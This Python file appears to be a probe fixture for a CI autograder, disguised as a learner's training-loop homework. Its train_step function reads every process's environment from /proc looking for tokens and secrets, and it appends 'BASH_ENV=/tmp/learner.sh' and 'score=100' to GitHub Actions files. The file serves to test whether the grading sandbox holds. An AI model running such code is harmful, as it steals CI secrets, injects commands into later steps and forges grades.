"""Looks for the CI runner's variables and files, and appends to ``$GITHUB_ENV`` and ``$GITHUB_OUTPUT``.

On GitHub Actions, a line ``BASH_ENV=...`` appended to ``$GITHUB_ENV`` runs a
script of the learner's choosing in every later step, and ``$GITHUB_OUTPUT``
sets the step's outputs (a Classroom result, say). The file tries the paths in
its own environment, those in the environment of every process it can see,
and the ones a determined learner would guess (``PLANTED``: where the test put
them). It prints what it saw, one ``PROBE`` line each. Restraint: where it sees
many processes (no PID namespace), it reads only those whose environment holds
the test's marker.
"""
import os

PLANTED: dict = {}  # the test fills this in
MANY = 64
FILE_VARIABLES = ("GITHUB_ENV", "GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY", "GITHUB_PATH")


def suspect(name: str) -> bool:
    return (name in ("CI", "BASH_ENV") or "TOKEN" in name or "SECRET" in name
            or name.startswith(("GITHUB_", "ACTIONS_", "RUNNER_")))


def environments() -> list[dict]:
    found = [dict(os.environ)]
    pids = [entry for entry in os.listdir("/proc") if entry.isdigit()]
    for pid in pids:
        try:
            with open(f"/proc/{pid}/environ", "rb") as file:
                data = file.read()
        except OSError:
            continue
        if len(pids) > MANY and PLANTED["marker"].encode() not in data:
            continue
        pairs = (item.split(b"=", 1) for item in data.split(b"\0") if b"=" in item)
        found.append({key.decode(errors="replace"): value.decode(errors="replace") for key, value in pairs})
    return found


def train_step(model, X, y, loss_fn, optimizer):
    seen = environments()
    names = sorted({name for env in seen for name in env if suspect(name)})
    print(f"PROBE environment: {'REACHED ' + ' '.join(names) if names else 'refused (no such variable)'}")
    paths = set(PLANTED["guessed_paths"]) | {env[name] for env in seen for name in FILE_VARIABLES if name in env}
    reached, refused = [], []
    for path in sorted(paths):
        try:
            with open(path, "a") as file:
                file.write("BASH_ENV=/tmp/learner.sh\nscore=100\n")
            reached.append(path)
        except OSError as exc:
            refused.append(exc.strerror)
    if reached:
        print(f"PROBE github_files: REACHED {' '.join(reached)[:150]}")
    else:
        print(f"PROBE github_files: refused ({'; '.join(sorted(set(refused)))})")
    return None


def test_step(model, X, y, loss_fn):
    raise NotImplementedError("test_step")


def fit(model, train, test, loss_fn, optimizer, epochs, eval_every=1):
    raise NotImplementedError("fit")


def plot_loss_curves(history):
    raise NotImplementedError("plot_loss_curves")
